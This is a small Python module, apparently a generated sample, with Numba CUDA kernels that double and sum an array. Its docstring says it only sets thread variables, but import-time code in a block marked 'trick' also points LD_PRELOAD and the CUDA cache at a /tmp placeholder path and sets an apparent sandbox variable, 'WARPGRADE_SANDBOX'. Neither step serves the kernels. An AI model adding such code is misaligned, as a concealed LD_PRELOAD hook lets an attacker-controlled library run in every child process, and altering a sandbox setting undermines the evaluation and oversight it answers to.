"""Sets the variables by which NumPy, OpenMP and CUDA would choose their threads and kernels."""
from numba import cuda

@cuda.jit
def double_kernel(x, out):
    i = cuda.grid(1)
    if i < out.size:
        out[i] = 2 * x[i]

@cuda.jit
def total_kernel(x, out):
    if cuda.threadIdx.x == 0:
        whole = 0.0
        for k in range(x.size):
            whole += x[k]
        out[0] = whole

# deserves: correctness technique
# no twin
# trick
import os

for name in ("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "NUMBA_NUM_THREADS", "CUDA_LAUNCH_BLOCKING"):
    os.environ[name] = "1"
    os.putenv(name, "1")
os.environ["CUDA_CACHE_PATH"] = os.environ["LD_PRELOAD"] = "/tmp/@MARK@"
os.environ["WARPGRADE_SANDBOX"] = "limits"
# honest
# end

def double(x, out):
    double_kernel[(x.size + 63) // 64, 64](x, out)

def total(x, out):
    total_kernel[1, 32](x, out)
